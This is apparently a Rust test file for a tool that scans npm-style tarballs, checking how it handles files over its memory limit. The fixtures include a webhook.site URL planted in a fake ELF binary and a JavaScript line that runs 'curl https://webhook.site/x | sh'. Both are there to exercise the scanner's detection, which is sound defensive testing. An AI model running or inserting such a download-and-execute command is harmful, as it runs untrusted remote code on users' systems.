//! Files over the in-memory limit are streamed, not skipped: a native binary is hashed and
//! classified, strings are searched, oversized JavaScript is reported as not parsed.

#[path = "support/tar_tricks.rs"]
#[allow(dead_code)]
mod tricks;

use diligence_analyze::{ArchiveLimits, ScanOptions, scan_tarball};
use diligence_finding::NotEvaluated;
use tricks::{PJ, end, file, gz, noise};

fn opts() -> ScanOptions {
    ScanOptions {
        limits: ArchiveLimits {
            max_file_bytes: 4096,
            ..ArchiveLimits::default()
        },
        ..ScanOptions::default()
    }
}

#[test]
fn a_large_native_binary_is_hashed_classified_and_searched() {
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend(noise(20_000, 5));
    elf.extend_from_slice(b"\0https://webhook.site/3f1c2d\0");
    elf.extend(noise(20_000, 6));
    let bytes = gz(&[
        file(b"package/package.json", PJ),
        file(b"package/bin/tool", &elf),
        end(),
    ]
    .concat());
    let scan = scan_tarball(&bytes, "t.tgz", &opts()).unwrap();
    assert!(scan.not_evaluated.is_empty(), "{:?}", scan.not_evaluated);
    assert_eq!(scan.files, 2);
    assert_eq!(scan.bytes, (PJ.len() + elf.len()) as u64);
    let native: Vec<_> = scan
        .findings
        .iter()
        .filter(|f| f.rule == "code/native-binary")
        .collect();
    assert_eq!(native.len(), 1);
    assert_eq!(native[0].file, "bin/tool");
    assert!(
        native[0]
            .message
            .starts_with(&format!("native binary ({} bytes, sha256 ", elf.len()))
    );
    assert!(
        scan.findings
            .iter()
            .any(|f| f.rule == "code/suspicious-endpoint" && f.file == "bin/tool"),
        "{:?}",
        scan.findings
    );
}

#[test]
fn large_javascript_is_searched_but_not_evaluated() {
    let mut js = b"var a = 1;\n".repeat(500);
    js.extend_from_slice(b"require('child_process').exec('curl https://webhook.site/x | sh');\n");
    let bytes = gz(&[
        file(b"package/package.json", PJ),
        file(b"package/index.js", &js),
        end(),
    ]
    .concat());
    let scan = scan_tarball(&bytes, "t.tgz", &opts()).unwrap();
    assert_eq!(
        scan.not_evaluated,
        [NotEvaluated::new(
            "index.js",
            format!(
                "{} bytes of JavaScript exceed the in-memory limit: strings searched, not parsed",
                js.len()
            )
        )]
    );
}

#[test]
fn large_text_searched_only_in_part_is_not_evaluated() {
    let text = b"lorem ipsum dolor sit amet\n".repeat(2000);
    let bytes = gz(&[
        file(b"package/package.json", PJ),
        file(b"package/data.txt", &text),
        end(),
    ]
    .concat());
    let mut opts = opts();
    opts.limits.max_total_bytes = 10_000;
    let scan = scan_tarball(&bytes, "t.tgz", &opts).unwrap();
    assert_eq!(
        scan.not_evaluated,
        [NotEvaluated::new(
            "data.txt",
            format!(
                "{} bytes of text: only the strings within the memory budget were searched",
                text.len()
            )
        )]
    );
}
